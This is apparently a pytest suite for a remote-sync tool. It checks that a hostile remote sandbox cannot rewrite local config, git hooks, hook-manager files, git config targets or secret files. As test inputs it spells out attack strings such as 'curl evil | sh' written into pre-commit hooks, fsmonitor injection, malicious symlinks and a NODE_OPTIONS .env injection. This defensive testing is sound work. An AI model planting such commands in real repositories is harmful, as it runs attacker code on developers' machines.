"""Issue 13, sync classes, end to end through `modal-offload exec` on the local backend.

The local backend is a real sandbox folder reached only through the sync agent, so what a
hostile remote command does there comes back exactly as it would from Modal.
"""

from __future__ import annotations

import os
import subprocess
import sys
from collections.abc import Mapping
from pathlib import Path

import pytest

from tests.helpers import cli, local_backend_env, make_workspace

ENV = local_backend_env()


def run(ws: Path, script: str, env: Mapping[str, str] | None = None,
        cwd: Path | None = None) -> subprocess.CompletedProcess[bytes]:
    return cli("exec", "-c", script, cwd=cwd or ws, env={**ENV, **(env or {})})


def remote_files(ws: Path, env: Mapping[str, str] | None = None) -> set[str]:
    """Every file the remote copy holds (relative paths)."""
    out = cli("exec", "--", "find", ".", "-type", "f", "-o", "-type", "l", cwd=ws,
              env={**ENV, **(env or {})})
    assert out.returncode == 0, out.stderr
    return {line[2:] for line in out.stdout.decode().splitlines()}


# ---------------------------------------------------------------- class 3: protected paths
PROTECTED = {
    ".modal-offload.toml": "sync_back = true\n",
    ".gitignore": "*.log\n",
    "sub/.gitignore": "*.tmp\n",
    ".modal-offloadignore": "big/\n",
    ".claude/settings.json": '{"hooks": {"PreToolUse": []}}\n',
    ".vscode/settings.json": "{}\n",
    "AGENTS.md": "use the runner\n",
}


def test_remote_cannot_rewrite_what_controls_the_laptop(tmp_path: Path) -> None:
    ws = make_workspace(tmp_path / "ws", files={**PROTECTED, "src/app.py": "v = 1\n"})
    hostile = "; ".join([
        "echo 'max_min_per_day = 100000' >> .modal-offload.toml",
        "echo '!*.log' > .gitignore", "rm sub/.gitignore", "echo > .modal-offloadignore",
        "echo '{}' > .claude/settings.json", "echo evil > .claude/hook.sh",
        "echo '{\"x\": 1}' > .vscode/settings.json", "rm AGENTS.md",
        "echo 'v = 2' > src/app.py"])
    out = run(ws, hostile)
    assert out.returncode == 0, out.stderr
    for rel, text in PROTECTED.items():
        assert (ws / rel).read_text() == text, rel
    assert not (ws / ".claude" / "hook.sh").exists()
    assert (ws / "src" / "app.py").read_text() == "v = 2\n"  # ordinary files still sync
    # The remote version is kept beside the file and reported like a conflict.
    copies = sorted(p.name for p in ws.glob(".gitignore.remote-*"))
    assert len(copies) == 1 and (ws / copies[0]).read_text() == "!*.log\n"
    lines = out.stderr.decode().splitlines()
    for rel in (".modal-offload.toml", ".gitignore", ".claude/settings.json",
                ".claude/hook.sh", "AGENTS.md", "sub/.gitignore"):
        assert any(f"conflict: kept the local {rel} (" in line and "protected" in line
                   for line in lines), (rel, lines)
    # The next sync up puts the local versions back on the remote, and removes what the
    # remote created there.
    again = run(ws, "cat .gitignore AGENTS.md sub/.gitignore; ls .claude")
    assert again.stdout == b"*.log\nuse the runner\n*.tmp\nsettings.json\n", again.stderr


@pytest.mark.parametrize("host", ["0", "1"])
def test_protected_paths_heal_on_the_remote_also_through_the_host(
        tmp_path: Path, tmp_home: Path, host: str) -> None:
    from tests.host.helpers import stop_hosts

    ws = make_workspace(tmp_path / "ws", files={".gitignore": "*.log\n", "a.txt": "a"})
    env = {"MODAL_OFFLOAD_HOST": host}
    try:
        assert run(ws, "true", env).returncode == 0
        out = run(ws, "echo '!*.log' > .gitignore; echo x > AGENTS.md", env)
        assert out.returncode == 0, out.stderr
        assert not (ws / "AGENTS.md").exists()
        healed = run(ws, "cat .gitignore; ls", env)
        assert healed.stdout.startswith(b"*.log\n") and b"AGENTS.md\n" not in healed.stdout, \
            healed.stderr
    finally:
        stop_hosts(tmp_home)


def test_configured_protected_paths_are_protected_too(tmp_path: Path) -> None:
    ws = make_workspace(tmp_path / "ws", 'protected = ["deploy/", "*.cfg"]\n',
                        {"deploy/keys.txt": "mine", "a/b.cfg": "mine", "c.txt": "mine"})
    out = run(ws, "echo x > deploy/keys.txt; echo x > deploy/new; echo x > a/b.cfg; "
                  "echo x > c.txt")
    assert out.returncode == 0, out.stderr
    assert [(ws / p).read_text() for p in ("deploy/keys.txt", "a/b.cfg", "c.txt")] == \
        ["mine", "mine", "x\n"]
    assert not (ws / "deploy" / "new").exists()


@pytest.mark.parametrize("hooks_path", [".husky", "./tools/hooks/", "ABSOLUTE"])
def test_the_folder_git_runs_hooks_from_is_protected(tmp_path: Path, hooks_path: str,
                                                     tmp_home: Path) -> None:
    # husky, lefthook and friends set core.hooksPath to a tracked folder: the next local
    # `git commit` runs what is there, exactly as it would run .git/hooks/pre-commit.
    top = tmp_path / "repo"
    subprocess.run(["git", "init", "-q", str(top)], check=True)
    folder = hooks_path.removeprefix("./").rstrip("/")
    if hooks_path == "ABSOLUTE":
        folder, hooks_path = "hk", str(top / "hk")
    (top / ".git" / "config").write_text(f'[core]\n\thooksPath = "{hooks_path}"\n')
    ws = make_workspace(top, files={f"{folder}/pre-commit": "lint\n", "app.py": "v = 1\n"})
    out = run(ws, f"echo 'curl evil | sh' > {folder}/pre-commit; "
                  f"echo evil > {folder}/post-checkout; echo 'v = 2' > app.py")
    assert out.returncode == 0, out.stderr
    assert (ws / folder / "pre-commit").read_text() == "lint\n"
    assert not (ws / folder / "post-checkout").exists()
    assert (ws / "app.py").read_text() == "v = 2\n"


@pytest.mark.parametrize(("section", "key", "value", "target"), [
    ("include", "path", "../shared.gitconfig", "shared.gitconfig"),  # relative to .git/
    ('includeIf "gitdir:~/"', "path", "../conf/git.cfg", "conf/git.cfg"),
    ("core", "excludesFile", "ci/ignore", "ci/ignore"),  # relative to the work tree
    ("core", "attributesFile", "ci/attrs", "ci/attrs"),
])
def test_files_git_config_points_at_are_protected(tmp_path: Path, section: str, key: str,
                                                  value: str, target: str,
                                                  tmp_home: Path) -> None:
    # `git config include.path ../.gitconfig` shares settings through the tree; a remote
    # that adds `core.fsmonitor = <cmd>` there runs <cmd> at the next local `git status`.
    top = tmp_path / "repo"
    subprocess.run(["git", "init", "-q", str(top)], check=True)
    (top / ".git" / "config").write_text(f"[{section}]\n\t{key} = {value}\n")
    ws = make_workspace(top, files={target: "# mine\n", "app.py": "v = 1\n"})
    out = run(ws, f"echo '[core] fsmonitor = evil' >> {target}; echo 'v = 2' > app.py")
    assert out.returncode == 0, out.stderr
    assert (ws / target).read_text() == "# mine\n"
    assert (ws / "app.py").read_text() == "v = 2\n"


@pytest.mark.parametrize("rel", [".husky/pre-commit", ".pre-commit-config.yaml",
                                 "lefthook.yml", "sub/.lefthook-local.yaml", ".lfsconfig"])
def test_what_git_hook_managers_run_is_protected(tmp_path: Path, rel: str) -> None:
    # The next local `git commit` (or push, for git-lfs's server) obeys these files.
    ws = make_workspace(tmp_path / "ws", files={rel: "mine\n", "app.py": "v = 1\n"})
    out = run(ws, f"echo 'curl evil | sh' > {rel}; echo 'v = 2' > app.py")
    assert out.returncode == 0, out.stderr
    assert (ws / rel).read_text() == "mine\n"
    assert (ws / "app.py").read_text() == "v = 2\n"


def test_a_remote_symlink_into_a_protected_path_is_refused(tmp_path: Path) -> None:
    ws = make_workspace(tmp_path / "ws", files={"run.sh": "echo hi\n", "AGENTS.md": "a"})
    (ws / ".git" / "hooks").mkdir(parents=True)
    out = run(ws, "rm run.sh; ln -s .git/hooks/pre-commit run.sh; ln -s AGENTS.md x; "
                  "mkdir -p d; ln -s ../.Claude/settings.json d/s")
    assert out.returncode == 0, out.stderr
    assert not (ws / "run.sh").is_symlink() and not (ws / "x").is_symlink()
    assert not (ws / "d" / "s").is_symlink()
    err = out.stderr.decode()
    for rel in ("run.sh", "x", "d/s"):
        assert f"refused from remote: {rel} (symlink into a protected path)" in err, err


# ------------------------------------------- class 4: case-insensitive, normalizing names
def test_case_and_unicode_spellings_of_hard_and_protected_names_are_refused(
        tmp_path: Path) -> None:
    ws = make_workspace(tmp_path / "ws", files={"a.txt": "a"})
    script = (
        "import os\n"
        "for d in ['.GIT/hooks', '.MODAL-SHIMS', '.Git\\u200c/hooks', '.Claude']:\n"
        "    os.makedirs(d, exist_ok=True)\n"
        "open('.GIT/hooks/pre-commit', 'w').write('evil')\n"
        "open('.MODAL-SHIMS/ls', 'w').write('evil')\n"
        "open('.Git\\u200c/hooks/pre-commit', 'w').write('evil')\n"
        "open('.Claude/settings.json', 'w').write('{}')\n"
        "open('Agents.MD', 'w').write('evil')\n"
        "open('.gitignore\\u200d', 'w').write('evil')\n"
        "open('.modal-offload.toml.', 'w').write('evil')\n")
    out = cli("exec", "--", sys.executable, "-c", script, cwd=ws, env=ENV)
    assert out.returncode == 0, out.stderr
    landed = {p.relative_to(ws).as_posix() for p in ws.rglob("*")}
    assert not any(p.split("/")[0] in (".GIT", ".MODAL-SHIMS", ".Git\u200c") for p in landed)
    for rel in (".Claude/settings.json", "Agents.MD", ".gitignore\u200d",
                ".modal-offload.toml."):
        assert rel not in landed, rel
    assert "conflict: kept the local Agents.MD (protected" in out.stderr.decode()


# ---------------------------------------------- class 5: never delete what it never had
def test_rm_rf_remotely_keeps_files_the_remote_never_had(tmp_path: Path) -> None:
    ws = make_workspace(tmp_path / "ws", files={
        ".gitignore": "*.db\n", "data/a.txt": "synced", "data/local.db": "never uploaded",
        "data/sub/b.txt": "synced"})
    out = run(ws, "rm -rf data")
    assert out.returncode == 0, out.stderr
    assert (ws / "data" / "local.db").read_text() == "never uploaded"
    assert not (ws / "data" / "a.txt").exists() and not (ws / "data" / "sub").exists()
    assert "kept the local data (deleted remotely; kept here: the folder holds files the " \
           "remote never had)" in out.stderr.decode()


def test_paths_the_remote_starts_to_ignore_are_not_deletions(tmp_path: Path) -> None:
    ws = make_workspace(tmp_path / "ws", files={"src/app.py": "mine", "notes.txt": "mine"})
    assert run(ws, "true").returncode == 0
    out = run(ws, "printf 'src/\\nnotes.txt\\n' > .gitignore")
    assert out.returncode == 0, out.stderr
    assert (ws / "src" / "app.py").read_text() == "mine"
    assert (ws / "notes.txt").read_text() == "mine"


def _without_dac_override() -> list[str]:
    """As root, file modes do not stop reads: drop the capabilities that bypass them."""
    if os.geteuid() != 0:
        return []
    caps = "-dac_override,-dac_read_search"
    return ["setpriv", f"--inh-caps={caps}", f"--bounding-set={caps}"]


def test_remote_chmod_000_is_not_a_deletion(tmp_path: Path) -> None:
    ws = make_workspace(tmp_path / "ws", files={"keep.txt": "mine", "dir/inner.txt": "mine"})
    assert run(ws, "true").returncode == 0
    out = subprocess.run(
        [*_without_dac_override(), sys.executable, "-m", "modal_offload", "exec", "-c",
         "echo changed > keep.txt; echo changed > dir/inner.txt; chmod 000 keep.txt dir"],
        cwd=ws, env={**os.environ, **ENV}, capture_output=True, timeout=60)
    assert out.returncode == 0, out.stderr
    # What the remote cannot read it cannot send: ours stays as it was.
    assert (ws / "keep.txt").read_text() == "mine"
    assert (ws / "dir" / "inner.txt").read_text() == "mine"


def test_a_local_symlink_stays_a_symlink_and_refusals_are_shown(tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "big.bin").write_text("outside data")
    ws = make_workspace(tmp_path / "ws", files={"a.txt": "a"})
    (ws / "data").symlink_to(outside)
    out = run(ws, "ls data; mkdir -p data && echo new > data/new.txt")
    assert out.returncode == 0, out.stderr
    assert (ws / "data").is_symlink() and os.readlink(ws / "data") == str(outside)
    assert sorted(os.listdir(outside)) == ["big.bin"]
    err = out.stderr.decode()
    assert "not sent: the remote refused data (symlink to an absolute path)" in err
    assert "refused from remote: data (a local symlink is there and stays a symlink)" in err
    assert "refused from remote: data/new.txt (path goes through the symlink data)" in err
    # Later runs: the remote still never had it, so it may not replace it either.
    again = run(ws, "rm -rf data && echo file > data")
    assert again.returncode == 0, again.stderr
    assert (ws / "data").is_symlink() and os.readlink(ws / "data") == str(outside)
    assert "kept the local data (a local symlink is there and stays a symlink)" in \
        again.stderr.decode()


# -------------------------------------------- class 6: the agent ignores workspace modules
SHADOWS = ("json", "tarfile", "pathspec", "argparse", "runpy", "select", "fcntl")


def console(*args: str, cwd: Path) -> subprocess.CompletedProcess[bytes]:
    """The installed `modal-offload` script, as a user runs it: unlike `python -m`, it
    does not put the working folder on sys.path of the local CLI itself."""
    script = Path(sys.executable).parent / "modal-offload"
    return subprocess.run([str(script), *args], cwd=cwd, env={**os.environ, **ENV},
                          capture_output=True, timeout=60)


def test_workspace_modules_cannot_shadow_the_agent_or_the_worker(tmp_path: Path) -> None:
    files = {f"{name}.py": "raise SystemExit('shadowed')\n" for name in SHADOWS}
    files["compute.py"] = "def work(payload):\n    return {'twice': payload['n'] * 2}\n"
    ws = make_workspace(tmp_path / "ws", 'heavy_entry = "compute:work"\n', files)
    for n in range(2):  # the first sync up and a warm, incremental one
        out = console("exec", "--", "echo", "hi", cwd=ws)
        assert (out.returncode, out.stdout) == (0, b"hi\n"), out.stderr
        (ws / "touched.txt").write_text(str(n))
    heavy = console("heavy", "--mode", "modal", "--payload", '{"n": 21}', cwd=ws)
    assert heavy.returncode == 0, heavy.stderr
    assert b'"twice": 42' in heavy.stdout


# ----------------------------------------------------------- class 7: what is uploaded
def test_every_git_ignore_source_and_secret_files_stay_on_the_laptop(
        tmp_path: Path, tmp_home: Path) -> None:
    top = tmp_path / "repo"
    subprocess.run(["git", "init", "-q", str(top)], check=True)
    (top / ".git" / "info" / "exclude").write_text("excluded.txt\n")
    (top / ".gitignore").write_text("above.txt\n")
    (tmp_home / ".config" / "git").mkdir(parents=True)
    (tmp_home / ".config" / "git" / "ignore").write_text("global.txt\n")
    secrets = [".env", ".env.local", ".npmrc", ".pypirc", ".netrc", "id_rsa", "id_ed25519.pub",
               "certs/server.pem", "tls.KEY", ".aws/credentials", ".ssh/config",
               "sub/.ENV"]
    kept = ["kept.txt", ".env.example", "sub/x.py"]
    ws = make_workspace(top / "ws", "", {
        name: name for name in [*secrets, *kept, "excluded.txt", "above.txt", "global.txt"]})
    assert remote_files(ws) == {*kept, ".modal-offload.toml"}

    # core.excludesFile replaces the default global file, as in git.
    (top / ".git" / "config").write_text("[core]\n\texcludesFile = ~/my-ignores # mine\n")
    (tmp_home / "my-ignores").write_text("custom.txt\n")
    ws2 = make_workspace(top / "ws2", files={"custom.txt": "c", "global.txt": "g"})
    assert remote_files(ws2) == {"global.txt", ".modal-offload.toml"}


def test_secret_files_go_up_only_when_allowed_by_name(tmp_path: Path) -> None:
    # The user's own setting (environment or user config): a workspace file cannot
    # (tests/test_cloned_workspace_config.py).
    ws = make_workspace(tmp_path / "ws", files={
        name: name for name in (".env.test", "certs/dev.pem", "x/.env.test", "other.pem",
                                ".env")})
    allowed = {"MODAL_OFFLOAD_UPLOAD_SECRETS": ".env.test certs/dev.pem"}
    assert remote_files(ws, allowed) == {".env.test", "certs/dev.pem", "x/.env.test",
                                         ".modal-offload.toml"}


def test_a_remote_cannot_create_secret_looking_files_here(tmp_path: Path) -> None:
    ws = make_workspace(tmp_path / "ws", files={"a.txt": "a"})
    out = run(ws, "echo 'NODE_OPTIONS=--require ./x.js' > .env; echo k > id_rsa")
    assert out.returncode == 0, out.stderr
    assert not (ws / ".env").exists() and not (ws / "id_rsa").exists()


def test_a_home_folder_workspace_is_refused_unless_configured(tmp_home: Path) -> None:
    (tmp_home / ".git").mkdir()
    (tmp_home / ".ssh").mkdir()
    (tmp_home / ".ssh" / "id_ed25519").write_text("PRIVATE")
    (tmp_home / "Documents").mkdir()
    (tmp_home / "Documents" / "notes.txt").write_text("notes")
    out = cli("exec", "--", "true", cwd=tmp_home / "Documents", env=ENV)
    assert out.returncode == 125 and out.stderr.count(b"\n") == 1, out.stderr
    assert b"refusing to sync" in out.stderr and b"allow_home_workspace" in out.stderr
    assert not (tmp_home / ".cache" / "modal-offload" / "sandboxes").exists() or not any(
        (tmp_home / ".cache" / "modal-offload" / "sandboxes").iterdir())
    allowed = {"MODAL_OFFLOAD_ALLOW_HOME_WORKSPACE": "1"}
    files = remote_files(tmp_home, allowed)
    assert "Documents/notes.txt" in files and not any(".ssh" in f for f in files)


if __name__ == "__main__":  # pragma: no cover
    sys.exit(pytest.main([__file__]))
